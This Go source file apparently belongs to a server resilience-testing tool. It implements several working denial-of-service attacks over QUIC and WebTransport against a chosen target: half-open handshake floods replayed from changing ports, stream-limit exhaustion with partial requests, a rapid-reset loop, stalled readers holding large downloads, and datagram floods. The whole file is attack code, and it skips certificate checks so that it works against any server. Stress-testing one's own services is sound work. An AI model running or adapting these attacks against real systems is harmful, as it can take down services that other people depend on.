package attack

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/webtransport-go"
)

// quicTLS is a client's, for any server.
func quicTLS() *tls.Config {
	return &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h3"}}
}

// overQUIC makes an attack of what is done on a connection.
func overQUIC(cfg quic.Config, do func(ctx context.Context, q *quic.Conn, at Target, l *Log) error) func(context.Context, Target, *Log) error {
	cfg.EnableDatagrams, cfg.EnableStreamResetPartialDelivery = true, true
	return func(ctx context.Context, at Target, l *Log) error {
		dialing, cancel := context.WithTimeout(ctx, 5*time.Second)
		defer cancel()
		q, err := quic.DialAddr(dialing, at.TLSAddr, quicTLS(), &cfg)
		if err != nil {
			if ctx.Err() != nil {
				return ctx.Err()
			}
			return fmt.Errorf("%w: %w", errDial, err)
		}
		defer func() { _ = q.CloseWithError(0x100, "") }()
		err = do(ctx, q, at, l)
		if ae, ok := errors.AsType[*quic.ApplicationError](context.Cause(q.Context())); ok && ae.Remote {
			l.saw(fmt.Sprintf("%#x: %s", uint64(ae.ErrorCode), ae.ErrorMessage))
		}
		return err
	}
}

// overSession makes an attack of what is done on a session of WebTransport.
func overSession(cfg quic.Config, do func(ctx context.Context, s *webtransport.Session, l *Log) error) func(context.Context, Target, *Log) error {
	return overQUIC(cfg, func(ctx context.Context, q *quic.Conn, at Target, l *Log) error {
		c, err := (&webtransport.Transport{}).NewClientConn(q)
		if err != nil {
			return err
		}
		_, s, err := c.Dial(ctx, "https://"+at.TLSAddr+pipes, nil)
		if err != nil {
			return err
		}
		return do(ctx, s, l)
	})
}

// firstFlights are what clients begin with, each of another one.
func firstFlights(n int) ([][]byte, error) {
	sink, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	defer sink.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var all [][]byte
	for range n {
		go func() { // ends with ctx
			_, _ = quic.DialAddr(ctx, sink.LocalAddr().String(), quicTLS(), &quic.Config{})
		}()
		b := make([]byte, 2048)
		_ = sink.SetReadDeadline(time.Now().Add(5 * time.Second))
		m, _, err := sink.ReadFrom(b)
		if err != nil {
			return nil, err
		}
		all = append(all, b[:m])
	}
	return all, nil
}

// pipeHeaders is HEADERS of a call in the call form.
func pipeHeaders(method string) []byte {
	block := ":path: " + method + "\r\n"
	return append([]byte{0x01, 0, 0, byte(len(block))}, block...)
}

// pipeData is DATA.
func pipeData(b []byte) []byte {
	return append([]byte{0x02, byte(len(b) >> 16), byte(len(b) >> 8), byte(len(b))}, b...)
}

// pace has an attacker rest after every burst, as the others do.
type pace struct {
	began time.Time
	n     int
}

func (p *pace) step(ctx context.Context, l *Log, n int) {
	l.sent(n)
	if p.n += n; p.n < burst {
		return
	}
	sleep(ctx, 3*time.Since(p.began))
	p.began, p.n = time.Now(), 0
}

// quics are the attacks over QUIC.
func quics() []Attack {
	return []Attack{
		{"QUIC, half-open", "the first packets of 50 handshakes, over and over from other ports, and no answer to anything", 4, waits,
			func(ctx context.Context, at Target, l *Log) error {
				flights, err := firstFlights(50)
				if err != nil {
					return err
				}
				to, err := net.ResolveUDPAddr("udp", at.TLSAddr)
				if err != nil {
					return err
				}
				for p := (&pace{began: time.Now()}); ctx.Err() == nil; {
					u, err := net.DialUDP("udp", nil, to)
					if err != nil {
						return fmt.Errorf("%w: %w", errDial, err)
					}
					for _, b := range flights {
						_, _ = u.Write(b)
						p.step(ctx, l, 1)
					}
					sleep(ctx, 10*time.Millisecond)
					_ = u.Close()
				}
				return nil
			}},
		{"QUIC, half a head", "as many streams as there may be, each with two bytes of a request", 10, waits,
			overQUIC(quic.Config{}, func(ctx context.Context, q *quic.Conn, _ Target, l *Log) error {
				for {
					str, err := q.OpenStreamSync(ctx)
					if err != nil {
						return err
					}
					if _, err := str.Write([]byte{0x01, 0x20}); err != nil {
						return err
					}
					l.sent(1)
				}
			})},
		{"WebTransport, before its session", "as many streams as there may be, of sessions that never come", 20, waits,
			overQUIC(quic.Config{}, func(ctx context.Context, q *quic.Conn, _ Target, l *Log) error {
				for n := byte(0); ; n++ {
					str, err := q.OpenStreamSync(ctx)
					if err != nil {
						return err
					}
					if _, err := str.Write([]byte{0x40, 0x41, 0x40 | n>>2&0x3f, n << 2}); err != nil {
						return err
					}
					l.sent(1)
				}
			})},
		{"WebTransport, rapid reset", "opens a stream with HEADERS and resets it", 4, ends,
			overSession(quic.Config{}, func(ctx context.Context, s *webtransport.Session, l *Log) error {
				for p := (&pace{began: time.Now()}); ctx.Err() == nil; {
					str, err := s.OpenStreamSync(ctx)
					if err != nil {
						return err
					}
					if _, err := str.Write(pipeHeaders(duplex)); err != nil {
						return err
					}
					str.CancelWrite(1)
					p.step(ctx, l, 2)
				}
				return nil
			})},
		{"WebTransport, readers that stop", "200 downloads of 1 MB, of which nothing is read", 4, waits,
			overSession(quic.Config{InitialStreamReceiveWindow: 1 << 20, InitialConnectionReceiveWindow: 256 << 20, MaxConnectionReceiveWindow: 256 << 20},
				func(ctx context.Context, s *webtransport.Session, l *Log) error {
					for range 200 {
						str, err := s.OpenStreamSync(ctx)
						if err != nil {
							return err
						}
						if _, err := str.Write(append(pipeHeaders(stream), pipeData(prefixed(download(16, 64<<10)))...)); err != nil {
							return err
						}
						l.sent(2)
					}
					<-ctx.Done()
					return nil
				})},
		{"WebTransport, datagrams for nobody", "datagrams that belong to no call, and some that are none", 4, waits,
			overSession(quic.Config{}, func(ctx context.Context, s *webtransport.Session, l *Log) error {
				p := &pace{began: time.Now()}
				for n := 0; ctx.Err() == nil; n++ {
					if err := s.SendDatagram(make([]byte, n%1000)); err != nil {
						return err
					}
					p.step(ctx, l, 1)
				}
				return nil
			})},
	}
}
